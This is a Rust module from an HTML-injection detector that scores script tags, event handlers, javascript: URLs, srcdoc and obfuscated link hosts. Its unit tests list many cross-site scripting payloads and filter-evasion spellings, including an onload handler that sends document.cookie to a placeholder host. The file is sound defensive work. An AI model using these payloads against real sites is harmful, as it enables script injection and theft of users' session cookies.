//! Dangerous HTML structure among the tokenizer's tags: script-bearing elements, event handler
//! attributes, script-running URLs in URL attributes, `srcdoc`, script-running CSS. Tags that
//! rich-text editors produce (`<p>`, `<a href="https://..">`, `<span style="color: red">`) score
//! only as faint structure, which lets a confident model raise them but never flags by itself.

use super::css;
use super::js_sink::find_sinks;
use super::spans::LongUnquoted;
use super::tokenizer::{Attr, Tag, Tokens};
use super::url_scheme::{decode_entities, url_attr_scheme, Scheme};
use super::Hit;

/// Faint structure: editor HTML.
const EDITOR_TAGS_SCORE: f32 = 0.15;
/// Some structure: tags outside the editor vocabulary, or with unusual attributes.
const ODD_TAG_SCORE: f32 = 0.3;

/// Attributes whose value a browser loads or navigates to as a URL.
const URL_ATTRS: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "xlink:href",
    "background",
    "poster",
    "lowsrc",
    "dynsrc",
    "code",
    "codebase",
    "content",
    "values",
    "to",
    "from",
    "by",
    "folder",
    "datasrc",
];

/// Elements rich-text editors emit; anything else is at least "odd" structure.
pub fn is_editor_tag(name: &str) -> bool {
    // Asked for every tag of every value with markup: a `match` compiles to a comparison by
    // length and bytes, with no hashing and no lazily built set.
    matches!(
        name,
        "a" | "abbr"
            | "address"
            | "article"
            | "aside"
            | "b"
            | "bdi"
            | "bdo"
            | "blockquote"
            | "br"
            | "caption"
            | "center"
            | "cite"
            | "code"
            | "col"
            | "colgroup"
            | "dd"
            | "del"
            | "details"
            | "dfn"
            | "div"
            | "dl"
            | "dt"
            | "em"
            | "figcaption"
            | "figure"
            | "font"
            | "footer"
            | "h1"
            | "h2"
            | "h3"
            | "h4"
            | "h5"
            | "h6"
            | "header"
            | "hr"
            | "i"
            | "img"
            | "ins"
            | "kbd"
            | "li"
            | "main"
            | "mark"
            | "nav"
            | "ol"
            | "p"
            | "picture"
            | "pre"
            | "q"
            | "s"
            | "samp"
            | "section"
            | "small"
            | "source"
            | "span"
            | "strike"
            | "strong"
            | "sub"
            | "summary"
            | "sup"
            | "table"
            | "tbody"
            | "td"
            | "tfoot"
            | "th"
            | "thead"
            | "time"
            | "tr"
            | "tt"
            | "u"
            | "ul"
            | "var"
            | "wbr"
            | "label"
            | "title"
            | "html"
            | "head"
            | "body"
    )
}

/// Attributes editors emit on those elements.
const EDITOR_ATTRS: &[&str] = &[
    "href",
    "src",
    "alt",
    "title",
    "class",
    "id",
    "style",
    "width",
    "height",
    "target",
    "rel",
    "name",
    "align",
    "border",
    "colspan",
    "rowspan",
    "cellpadding",
    "cellspacing",
    "color",
    "face",
    "size",
    "lang",
    "dir",
    "start",
    "type",
    "valign",
    "datetime",
    "cite",
    "srcset",
    "sizes",
    "loading",
    "role",
    "for",
    "span",
];

/// Elements that run script or load another document by their mere presence.
fn element_score(name: &str) -> Option<(f32, &'static str)> {
    Some(match name {
        "script" => (0.95, "tag <script>"),
        "script-in-prose" => (0.45, "tag <script> followed by prose"),
        "iframe" | "frame" | "frameset" => (0.6, "tag <iframe>/<frame> loading another document"),
        "object" | "embed" | "applet" => {
            (0.75, "tag <object>/<embed>/<applet> loading active content")
        }
        "base" => (0.6, "tag <base> redirecting relative URLs"),
        "portal" => (0.6, "tag <portal> loading another document"),
        "import" => (0.7, "tag <import> (HTC)"),
        "xss" | "xml" => (0.35, "unusual XML island tag"),
        "template" | "svg" | "math" | "form" | "isindex" | "meta" | "link" | "style" | "xmp"
        | "noscript" | "listing" | "plaintext" | "textarea" | "animate" | "set" | "handler"
        | "image" => (ODD_TAG_SCORE, "structural tag"),
        _ => return None,
    })
}

/// A `<script>` mentioned in documentation ("inside ``<script>`` tags") has prose after it
/// rather than code; an empty body (the value ends, or another tag follows) still counts.
fn prose_body(tag: &Tag<'_>) -> bool {
    let body = tag.body.trim();
    !body.is_empty()
        && tag.attrs.is_empty()
        && !body.contains(['(', '=', ';', '[', '{'])
        && find_sinks(body).is_empty()
}

fn attr<'a>(tag: &'a Tag<'_>, name: &str) -> Option<&'a str> {
    tag.attrs.iter().find(|a| a.name == name).map(|a| a.value)
}

/// True for a plausible event handler attribute name: `on` and letters.
fn is_event_attr(name: &str) -> bool {
    name.len() > 4 && name.starts_with("on") && name[2..].bytes().all(|c| c.is_ascii_lowercase())
}

/// `return confirm('Delete this post?')`: the confirmation idiom of delete buttons in
/// server-rendered forms; a sentence as the only argument and nothing else. Probes pass a
/// marker (`confirm(1)`, `confirm('XSS')`) or chain more code.
pub fn is_confirm_dialog(v: &str) -> bool {
    let Some(rest) = v.strip_prefix("return confirm(") else {
        return false;
    };
    let rest = rest.trim_end_matches([';', ' ']);
    let Some(arg) = rest.strip_suffix(')') else {
        return false;
    };
    is_confirm_message(arg)
}

/// A quoted sentence (spaces, no code) as the argument of `confirm`.
pub fn is_confirm_message(arg: &str) -> bool {
    let arg = arg.trim();
    let quoted = arg.len() >= 2
        && ((arg.starts_with('\'') && arg.ends_with('\''))
            || (arg.starts_with('"') && arg.ends_with('"')));
    quoted
        && arg.len() <= 200
        && arg[1..arg.len() - 1].contains(' ')
        && !arg[1..arg.len() - 1].contains(['\'', '"', '(', ')', ';', '`', '+', '\\'])
}

/// What an event handler's value does; printed into the evidence only when it is reported.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HandlerUse {
    Confirm,
    Calling(&'static str),
    Code,
    Value,
}

impl std::fmt::Display for HandlerUse {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            HandlerUse::Confirm => f.write_str("asking for confirmation"),
            HandlerUse::Calling(name) => write!(f, "calling {name}"),
            HandlerUse::Code => f.write_str("with JS code"),
            HandlerUse::Value => f.write_str("with a value"),
        }
    }
}

/// Judges one event handler value: JS-looking (a sink, a call, an assignment) or just text.
pub fn handler_value_score(value: &str) -> Option<(f32, HandlerUse)> {
    let decoded = decode_entities(value);
    let v = decoded.as_deref().unwrap_or(value).trim();
    if v.is_empty() {
        return None;
    }
    if is_confirm_dialog(v) {
        return Some((0.3, HandlerUse::Confirm));
    }
    let view = super::js_sink::js_view(v);
    if let Some(s) = find_sinks(&view).first() {
        return Some((0.95, HandlerUse::Calling(s.name)));
    }
    let js_like =
        v.contains('(') || v.contains('`') || v.contains('=') || v.contains('[') || v.contains(';');
    Some(if js_like {
        (0.85, HandlerUse::Code)
    } else {
        (0.6, HandlerUse::Value)
    })
}

/// A verdict's evidence, kept unformatted until it is known to be reported: most verdicts
/// lose to a stronger one of the same tag or of another tag.
enum Evidence<'a> {
    Static(&'static str),
    /// `{prefix}<{name}>`, as in "tag <svg>".
    Tag(&'static str, &'a str),
    Owned(String),
}

impl Evidence<'_> {
    fn render(self) -> String {
        match self {
            Evidence::Static(s) => s.to_string(),
            Evidence::Tag(prefix, name) => format!("{prefix}<{name}>"),
            Evidence::Owned(s) => s,
        }
    }
}

impl From<&'static str> for Evidence<'_> {
    fn from(s: &'static str) -> Self {
        Evidence::Static(s)
    }
}

impl From<String> for Evidence<'_> {
    fn from(s: String) -> Self {
        Evidence::Owned(s)
    }
}

/// The strongest verdict so far (score clamped as [`Hit::new`] does); evidence is built only
/// for a verdict that beats it.
struct Best<'a>(Option<(f32, Evidence<'a>)>);

impl<'a> Best<'a> {
    fn take<E: Into<Evidence<'a>>>(&mut self, score: f32, why: impl FnOnce() -> E) {
        let score = score.clamp(0.0, 1.0);
        if self.0.as_ref().is_none_or(|b| score > b.0) {
            self.0 = Some((score, why().into()));
        }
    }
}

fn judge_tag<'t>(tag: &'t Tag<'_>) -> Option<(f32, Evidence<'t>)> {
    let mut best = Best(None);
    let name: &str = &tag.name;
    if tag.end {
        if name == "script" {
            best.take(0.55, || "closing </script> tag (script context breakout)");
        }
    } else if let Some((s, why)) = element_score(if name == "script" && prose_body(tag) {
        "script-in-prose"
    } else {
        name
    }) {
        best.take(s, || {
            if why == "structural tag" {
                Evidence::Tag("tag ", name)
            } else {
                Evidence::Static(why)
            }
        });
    } else if !is_editor_tag(name) {
        best.take(ODD_TAG_SCORE, || Evidence::Tag("unknown tag ", name));
    } else {
        best.take(EDITOR_TAGS_SCORE, || Evidence::Tag("tag ", name));
    }
    match name {
        "meta" => {
            let equiv = attr(tag, "http-equiv").unwrap_or("").to_ascii_lowercase();
            if equiv.contains("refresh") || equiv.contains("set-cookie") {
                best.take(0.8, || format!("tag <meta> with http-equiv {equiv}"));
            }
            // A UTF-7 family charset turns `+ADw-` into `<` for old browsers.
            let charset = attr(tag, "charset")
                .or_else(|| attr(tag, "content"))
                .unwrap_or("")
                .to_ascii_lowercase();
            if charset.contains("utf-7") || charset.contains("utf7") {
                best.take(0.7, || "tag <meta> switching to a UTF-7 charset");
            }
        }
        "link" => {
            let rel = attr(tag, "rel").unwrap_or("").to_ascii_lowercase();
            if rel.contains("import") {
                best.take(0.85, || "tag <link> with rel=import");
            }
        }
        "style" => {
            if let Some(h) = css::inspect_style(tag.body) {
                best.take(h.score, || format!("<style> body: {}", h.evidence));
            }
        }
        "script" if attr(tag, "src").is_some_and(|s| !s.is_empty()) => {
            best.take(0.95, || "tag <script> with src");
        }
        // SVG animation rewriting a link or a handler of its parent (`<set
        // attributeName="xlink:href" to="//e.example">`): the link changes after the filter
        // saw it.
        "set" | "animate" | "animatemotion" | "animatetransform" => {
            let target = attr(tag, "attributename")
                .unwrap_or("")
                .to_ascii_lowercase();
            let target = target.trim();
            if target == "href" || target == "xlink:href" || is_event_attr(target) {
                best.take(0.7, || format!("SVG <{name}> animating {target}"));
            }
        }
        _ => {}
    }
    for a in &tag.attrs {
        let an: &str = &a.name;
        if is_event_attr(an) {
            if let Some((s, how)) = handler_value_score(a.value) {
                best.take(s, || format!("tag <{name}> with event handler {an} {how}"));
            }
        } else if URL_ATTRS.contains(&an) {
            if let Some((scheme, obfuscated)) = url_attr_scheme(a.value) {
                let s = if scheme == Scheme::DataMarkup {
                    0.9
                } else {
                    0.95
                };
                let how = if obfuscated {
                    " after entity/whitespace decoding"
                } else {
                    ""
                };
                best.take(s, || {
                    format!("{an} with {} scheme{how} in <{name}>", scheme.label())
                });
            } else if let Some(why) = obfuscated_url(a.value) {
                best.take(0.6, || format!("{an} in <{name}> with {why}"));
            }
        } else if an == "dataformatas" && a.value.to_ascii_lowercase().contains("html") {
            best.take(0.6, || {
                format!("tag <{name}> binding data as HTML (dataformatas)")
            });
        } else if an == "srcdoc" {
            let s = if a.value.contains('<') || a.value.contains('&') {
                0.9
            } else {
                0.6
            };
            best.take(s, || format!("tag <{name}> with srcdoc"));
        } else if an == "style" {
            if let Some(h) = css::inspect_style(a.value) {
                best.take(h.score, || {
                    format!("style attribute on <{name}>: {}", h.evidence)
                });
            }
        } else if an.starts_with("ng-")
            || an.starts_with("v-")
            || an.starts_with(':')
            || an.starts_with('@')
        {
            // Framework directives evaluate their value as an expression.
            if find_sinks(a.value)
                .iter()
                .any(|s| s.name != "this" && s.name != "self")
            {
                best.take(0.8, || {
                    format!("framework directive {an} calling a JS sink")
                });
            } else {
                best.take(ODD_TAG_SCORE, || format!("framework directive {an}"));
            }
        } else if !EDITOR_ATTRS.contains(&an)
            && !an.starts_with("data-")
            && !an.starts_with("aria-")
        {
            best.take(ODD_TAG_SCORE.min(0.25), || {
                format!("unusual attribute {an} on <{name}>")
            });
        }
    }
    best.0
}

/// A web URL spelled to slip past filters: control characters inside the scheme or host
/// (`htt\tp://`), the host as one number or in hex/octal parts (`http://1113982867/`,
/// `http://0x42.0x66.0x7.0x93/`), or percent-encoded (`http://%77%77%77.e.example`). Links
/// written by people use names or dotted decimal addresses.
fn obfuscated_url(raw: &str) -> Option<&'static str> {
    let decoded = decode_entities(raw);
    let v = decoded.as_deref().unwrap_or(raw).trim_start();
    // Only a scheme of at most 12 bytes counts: the first 15 bytes are searched, not the URL.
    let colon = v.as_bytes().windows(3).take(13).position(|w| w == b"://")?;
    let scheme = &v[..colon];
    let host_start = colon + 3;
    let host_end = v[host_start..]
        .find(['/', '?', '#'])
        .map_or(v.len(), |e| host_start + e);
    let host = &v[host_start..host_end];
    // Hosts are short: byte loops, not searches with their setup cost.
    let host = match host.bytes().rposition(|c| c == b'@') {
        Some(at) => &host[at + 1..],
        None => host,
    };
    let host = match host.bytes().position(|c| c == b':') {
        Some(c) => &host[..c],
        None => host,
    };
    // Control characters are ASCII: reading bytes finds the same ones as reading chars.
    let ctrl = |s: &str| s.bytes().any(|c| c.is_ascii_control());
    if !is_web_scheme(scheme) {
        return None;
    }
    if ctrl(scheme) || ctrl(host) {
        return Some("control characters inside the scheme or host");
    }
    if host.bytes().any(|c| c == b'%') {
        return Some("a percent-encoded host");
    }
    // Every byte of a numeric host is a digit, a dot, or part of a `0x` hex spelling: a
    // name (nearly every host) fails here before it is split.
    if !host
        .bytes()
        .all(|c| c.is_ascii_hexdigit() || matches!(c, b'.' | b'x' | b'X'))
    {
        return None;
    }
    // Read twice rather than collected: no allocation for the many hosts that are names.
    let parts = || host.split('.');
    let numeric = !host.is_empty()
        && parts().count() <= 4
        && parts().all(|p| {
            let hex = p.strip_prefix("0x").or_else(|| p.strip_prefix("0X"));
            match hex {
                Some(h) => !h.is_empty() && h.bytes().all(|c| c.is_ascii_hexdigit()),
                None => !p.is_empty() && p.bytes().all(|c| c.is_ascii_digit()),
            }
        });
    if !numeric {
        return None;
    }
    let odd_part = parts().any(|p| p.len() > 1 && (p.starts_with('0') || p.len() > 3));
    (parts().count() < 4 || odd_part)
        .then_some("an IP address spelled as a number, in hex or octal")
}

/// `http` or `https` in any case once ASCII control characters are dropped (`htt\tp`).
fn is_web_scheme(scheme: &str) -> bool {
    let mut flat = [0u8; 5];
    let mut n = 0;
    for c in scheme.bytes().filter(|c| !c.is_ascii_control()) {
        if n == flat.len() {
            return false;
        }
        flat[n] = c.to_ascii_lowercase();
        n += 1;
    }
    matches!(&flat[..n], b"http" | b"https")
}

/// The strongest structure among the tags, plus how many tags were strongly suspicious;
/// `None` when it scores below `floor`, where the caller has no use for it (its evidence is
/// then never built).
pub fn inspect(tokens: &Tokens<'_>, floor: f32) -> Option<(Hit, usize)> {
    let mut best: Option<(f32, Evidence<'_>)> = None;
    let mut strong = 0;
    let mut spent = 0usize;
    let mut long_unquoted = LongUnquoted::default();
    for tag in &tokens.tags {
        spent += tag.attrs.iter().map(|a| a.value.len()).sum::<usize>();
        let cut = (spent > super::ATTR_BUDGET)
            .then(|| values_cut(tag, &long_unquoted))
            .flatten();
        let verdict = match &cut {
            None => judge_tag(tag),
            Some(cut) => judge_tag(cut).map(|(s, why)| (s, Evidence::Owned(why.render()))),
        };
        for a in &tag.attrs {
            long_unquoted.note(a);
        }
        if let Some((score, why)) = verdict {
            if score >= 0.5 {
                strong += 1;
            }
            if best.as_ref().is_none_or(|b| score > b.0) {
                best = Some((score, why));
            }
        }
    }
    best.filter(|b| b.0 >= floor)
        .map(|(score, why)| (Hit::new(score, why.render()), strong))
}

/// `tag` with each attribute value that lies inside a long unquoted value of an earlier tag
/// cut to its start (see [`LongUnquoted`]); `None` when no value is cut. Past the budget
/// (see ATTR_BUDGET) only such values are left to read again. Every other value and the body
/// are judged whole.
fn values_cut<'a>(tag: &Tag<'a>, long_unquoted: &LongUnquoted) -> Option<Tag<'a>> {
    if !tag
        .attrs
        .iter()
        .any(|a| long_unquoted.start_of(a.value).is_some())
    {
        return None;
    }
    Some(Tag {
        name: tag.name.clone(),
        end: tag.end,
        attrs: tag
            .attrs
            .iter()
            .map(|a| Attr {
                value: long_unquoted.start_of(a.value).unwrap_or(a.value),
                ..a.clone()
            })
            .collect(),
        unclosed: tag.unclosed,
        body: tag.body,
    })
}

#[cfg(test)]
mod tests {
    use super::super::tokenizer::tokenize;
    use super::*;

    fn score(t: &str) -> f32 {
        inspect(&tokenize(t), 0.0).map_or(0.0, |(h, _)| h.score)
    }

    fn evidence(t: &str) -> String {
        inspect(&tokenize(t), 0.0)
            .map(|(h, _)| h.evidence)
            .unwrap_or_default()
    }

    #[test]
    fn past_the_budget_only_values_inside_earlier_unquoted_ones_are_cut() {
        // Each padding tag's unquoted value runs to the `>`: overlapping values far past the
        // budget, then the tag that matters, whose values are its own.
        let pad = format!("{}{}>", "<a/title=x".repeat(16), "B".repeat(50_000));
        let toks = tokenize(&pad);
        let all: usize = toks
            .tags
            .iter()
            .flat_map(|t| &t.attrs)
            .map(|a| a.value.len())
            .sum();
        assert!(all > super::super::ATTR_BUDGET, "the case overlaps: {all}");
        assert!(score(&pad) < 0.5);
        let spaces = " ".repeat(200);
        let decls = "p{color:red}".repeat(20);
        for (tail, at_least) in [
            ("<script src=//evil.example/x.js></script>".to_string(), 0.9),
            ("<iframe src=//evil.example/>".to_string(), 0.5),
            (
                format!("<a href=\"{spaces}javascript:eval(name)\">x</a>"),
                0.9,
            ),
            (
                format!(
                    "<a href=\"java{}script:eval(name)\">x</a>",
                    "\t".repeat(200)
                ),
                0.9,
            ),
            (
                format!("<style>{decls}body{{width:expression(eval(name))}}</style>"),
                0.5,
            ),
            (
                format!(
                    "<div style=\"{}background:url(javascript:eval(name))\">",
                    "color:red;".repeat(20)
                ),
                0.5,
            ),
            (
                format!("<link rel=\"{spaces}import\" href=//e.example/x>"),
                0.5,
            ),
        ] {
            let text = format!("{pad}{tail}");
            assert!(score(&text) >= at_least, "{tail}: {}", score(&text));
        }
        // The padding tags past the budget are cut: their values lie in the first one's.
        let mut long = LongUnquoted::default();
        long.note(&toks.tags[0].attrs[0]);
        let cut = values_cut(&toks.tags[5], &long).expect("cut");
        assert!(cut
            .attrs
            .iter()
            .all(|a| a.value.len() <= super::super::spans::CUT_VALUE));
        assert!(values_cut(&tokenize("<b title=x>").tags[0], &long).is_none());
    }

    #[test]
    fn dangerous_elements() {
        for t in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil/x.js></SCRIPT>",
            "<iframe src=https://evil/></iframe>",
            "<object data=x.swf>",
            "<embed src=x.swf>",
            "<base href=//evil/>",
            "<frameset><frame src=x>",
            "<applet code=x>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil\">",
            "<link rel=import href=//evil/x.html>",
            "</script><script>alert(1)</script>",
        ] {
            assert!(score(t) >= 0.5, "{t}");
        }
    }

    #[test]
    fn event_handlers() {
        assert!(evidence("<svg/onload=alert(1)>").contains("tag <svg> with event handler onload"));
        for t in [
            "<img src=x onerror=alert(1)//",
            "<x contenteditable onkeydown=alert(1)>press",
            "<body onload=\"document.location='//e/'+document.cookie\">",
            "<details open ontoggle=alert`1`>",
            "<a onmouseover=\"x()\">",
        ] {
            assert!(score(t) >= 0.8, "{t}");
        }
    }

    #[test]
    fn url_attributes() {
        assert!(evidence("<a href=\"java&#x09;script:alert(1)\">x</a>")
            .contains("after entity/whitespace decoding"));
        for t in [
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"&#106;avascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
            "<iframe src=\"data:text/html,<script>alert(1)</script>\">",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<form action=javascript:alert(1)><input type=submit>",
            "<button formaction=javascript:alert(1)>x",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
            "<table background=\"javascript:alert(1)\">",
            "<svg><animate attributeName=href values=javascript:alert(1) />",
        ] {
            assert!(score(t) >= 0.9, "{t}");
        }
    }

    #[test]
    fn obfuscated_link_targets() {
        for t in [
            "<a href=\"http://1113982867/\">x</a>",
            "<a href=\"http://0x42.0x0000066.0x7.0x93/\">x</a>",
            "<a href=\"http://0102.0146.0007.00000223/\">x</a>",
            "<a href=\"htt\tp://6\t6.000146.0x7.147/\">x</a>",
            "<a href=\"http://%77%77%77.e.example\">x</a>",
            "<svg><set attributeName=\"xlink:href\" to=\"//e.example/?a\" />",
            "<animate attributeName=onclick to=x>",
        ] {
            assert!(score(t) >= 0.5, "{t}");
        }
        for t in [
            "<a href=\"http://192.168.1.10/admin\">router</a>",
            "<a href=\"https://example.com/p?q=%20x\">x</a>",
            "<a href=\"http://localhost:8080/\">dev</a>",
            "<a href=\"ftp://123/\">x</a>",
            "<img src=\"https://cdn.example.com/2024/01/x.png\">",
            "<svg><animate attributeName=\"opacity\" to=\"1\" /></svg>",
        ] {
            assert!(score(t) < 0.5, "{t}: {}", evidence(t));
        }
    }

    #[test]
    fn styles() {
        for t in [
            "<div style=\"width: expression(alert(1))\">",
            "<style>@import 'http://evil/x.css';</style>",
            "<div style=\"background:url(javascript:alert(1))\">",
            "<div style=\"-moz-binding:url(//evil/x.xml#x)\">",
        ] {
            assert!(score(t) >= 0.5, "{t}");
        }
    }

    #[test]
    fn script_named_in_prose_is_weaker() {
        assert!(score("Render data inside HTML ``<script>`` tags") < 0.5);
        assert!(score("<script>") >= 0.9);
        assert!(score("<script>alert`1`</script>") >= 0.9);
    }

    #[test]
    fn verdicts_below_the_floor_are_dropped() {
        let editor = tokenize("<p>Hello <b>x</b></p>");
        let (h, strong) = inspect(&editor, 0.0).expect("a verdict");
        assert_eq!((h.score, h.evidence.as_str(), strong), (0.15, "tag <p>", 0));
        assert!(inspect(&editor, 0.25).is_none());
        let attack = tokenize("<svg/onload=alert(1)>");
        let low = inspect(&attack, 0.0).expect("a verdict");
        assert_eq!(inspect(&attack, 0.5), Some(low));
    }

    #[test]
    fn numeric_hosts_are_told_from_names() {
        assert!(obfuscated_url("http://user@1113982867:80/x").is_some());
        assert!(obfuscated_url("HTTP://0x42.0x66.0x7.0x93").is_some());
        assert!(obfuscated_url("http://exa\tmple.com/").is_some());
        assert!(obfuscated_url("http://exa\u{1}mple.com/").is_some());
        assert!(obfuscated_url("https://a%2eexample/").is_some());
        for t in [
            "https://example.com/",
            "http://deadbeef.x/",
            "http://1.2.3.4/",
            "ws://1/",
            "",
        ] {
            assert!(obfuscated_url(t).is_none(), "{t}");
        }
        // The scheme must end within the first 12 bytes.
        assert!(obfuscated_url("abcdefghijklm://1113982867/").is_none());
    }

    #[test]
    fn editor_html_is_faint() {
        for t in [
            "<p>Hello <strong>world</strong> and <em>you</em></p>",
            "<a href=\"https://example.com/page?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener\">link</a>",
            "<img src=\"https://example.com/x.png\" alt=\"A cat\" width=\"200\">",
            "<ul><li>one</li><li>two</li></ul><br>",
            "<span style=\"color: red\">red</span>",
            "<table><tr><td>1</td></tr></table><blockquote>q</blockquote>",
            "<code>x</code><pre>y</pre><h1>t</h1><h6>u</h6><div class=\"x\">z</div>",
            "<p style=\"text-align:center;background: url(https://x/y.png)\">c</p>",
        ] {
            assert!(score(t) < 0.3, "{t}: {}", evidence(t));
        }
    }
}
